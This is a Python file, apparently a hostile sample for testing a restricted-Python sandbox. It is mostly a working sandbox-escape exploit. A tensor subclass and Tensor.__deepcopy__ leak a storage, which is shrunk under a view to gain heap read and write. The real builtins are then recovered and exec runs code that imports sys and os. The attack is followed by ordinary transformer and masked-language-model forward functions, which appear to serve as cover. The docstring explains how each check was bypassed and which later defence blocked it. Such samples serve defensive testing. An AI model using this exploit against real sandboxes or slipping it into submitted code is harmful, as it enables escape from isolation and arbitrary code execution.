"""Hostile: dataclasses.asdict's stand-in deep-copies a plain torch.Tensor (nothing in its
__dict__), but torch's Tensor.__deepcopy__ also deep-copies its .grad, which may be a tensor
subclass of the file's. For that subclass it calls self.new_empty([]) and then
new_tensor.set_(typed_storage, ...): set_ is a class attribute that is no function of the file's
(functools.partial(max, key=found.append)), so no parameter check sees the storage, which lands in
a list. A class pattern inside a sequence pattern then captures the storage's bound Python method
resize_ (judged only by its function's identity); Tensor.set_ run by map puts the storage under a
tensor, resize_ shrinks it under that tensor: heap reads and writes, then the real exec. Accepted
with every wall on, until asdict copied a plain tensor itself (no Tensor.__deepcopy__; a .grad
must be a plain tensor too) and a bound Python method was refused with the object it is bound to."""

import dataclasses
import functools
import math
import operator

import torch

found = []


class Grad(torch.Tensor):
    def new_empty(self, *args, **kwargs):
        return torch.zeros(0, dtype=self.dtype).as_subclass(Grad)

    set_ = functools.partial(max, key=found.append)


@dataclasses.dataclass
class Holder:
    value: object


def find_victim():
    for n in (16384, 65536, 262144):
        found.clear()
        x = torch.zeros(n, dtype=torch.float64)
        x.grad = torch.zeros(n, dtype=torch.float64).as_subclass(Grad)
        try:
            dataclasses.asdict(Holder(x))
        except TypeError:
            pass  # max compared the keys (None, None): the storage is in found already
        carrier = torch.zeros(0, dtype=torch.float64)
        list(map(torch.Tensor.set_, [carrier], found))  # C code takes the storage out of the list
        window = carrier.view(torch.int64)  # n int64 elements over the storage
        match found:
            case [object(resize_=shrink), *_]:
                shrink(16)  # the window keeps its n elements: n * 8 bytes of heap
        victims = [torch.full((2,), 7, dtype=torch.int64) for _ in range(512)]
        pointers = {v.data_ptr(): v for v in victims}
        words = window.clone().tolist()  # an out-of-bounds read of the whole window
        for i in range(len(words) - 2):
            if words[i] in pointers and words[i + 2] == words[i]:  # StorageImpl: data_, deleter, ctx_
                return window, pointers[words[i]], i, victims
    raise RuntimeError("no victim found")


window, victim, slot, kept = find_victim()
home = victim.data_ptr()
mask = torch.zeros(window.shape[0], dtype=torch.bool)
mask[slot] = True


def point(address):
    window.masked_fill_(mask, address)


def read(address):
    point(address)
    return victim[0].item()


def write(address, value):
    point(address)
    victim[0] = value


builtins_address = read(id(torch.broadcast_shapes) + 24)  # PyFunctionObject.func_builtins
write(builtins_address, read(builtins_address) + 1)  # the reference the list below will own
box = [None]
write(read(id(box) + 24), builtins_address)  # box's only item is now the real builtins dict
point(home)
code = (
    "b = torch.broadcast_shapes.__globals__['__builtins__']\n"
    "sys = b['__import__']('sys'); os = b['__import__']('os')\n"
    "print('ESCAPED: real sys, modules:', len(sys.modules), 'pid', os.getpid(), 'eval', b['eval'])\n"
)
list(map(operator.call, map(dict.get, box, ["exec"]), [code]))  # C code takes the items: never checked


def layer_norm(x):
    mean = x.mean(dim=-1, keepdim=True)
    var = ((x - mean) ** 2).mean(dim=-1, keepdim=True)
    return (x - mean) / torch.sqrt(var + 1e-5)


def gelu(x):
    return 0.5 * x * (1.0 + torch.tanh(math.sqrt(2.0 / math.pi) * (x + 0.044715 * x**3)))


def softmax(scores):
    scores = scores - scores.amax(dim=-1, keepdim=True)
    e = torch.exp(scores)
    return e / e.sum(dim=-1, keepdim=True)


def attention(x, w_q, w_k, w_v, w_o, num_heads):
    n, t, d = x.shape
    d_head = d // num_heads
    q = (x @ w_q).view(n, t, num_heads, d_head).transpose(1, 2)
    k = (x @ w_k).view(n, t, num_heads, d_head).transpose(1, 2)
    v = (x @ w_v).view(n, t, num_heads, d_head).transpose(1, 2)
    scores = q @ k.transpose(-2, -1) / math.sqrt(d_head)
    out = softmax(scores) @ v
    return out.transpose(1, 2).reshape(n, t, d) @ w_o


def mlm_forward_tied(input_ids, w_emb, pos_embed, blocks_weights, mask_indicator, num_heads):
    x = w_emb[input_ids] + pos_embed
    for w_q, w_k, w_v, w_o, w_mlp1, w_mlp2 in blocks_weights:
        x = x + attention(layer_norm(x), w_q, w_k, w_v, w_o, num_heads)
        x = x + gelu(layer_norm(x) @ w_mlp1) @ w_mlp2
    hidden = x[mask_indicator > 0.5]
    return hidden @ w_emb.T
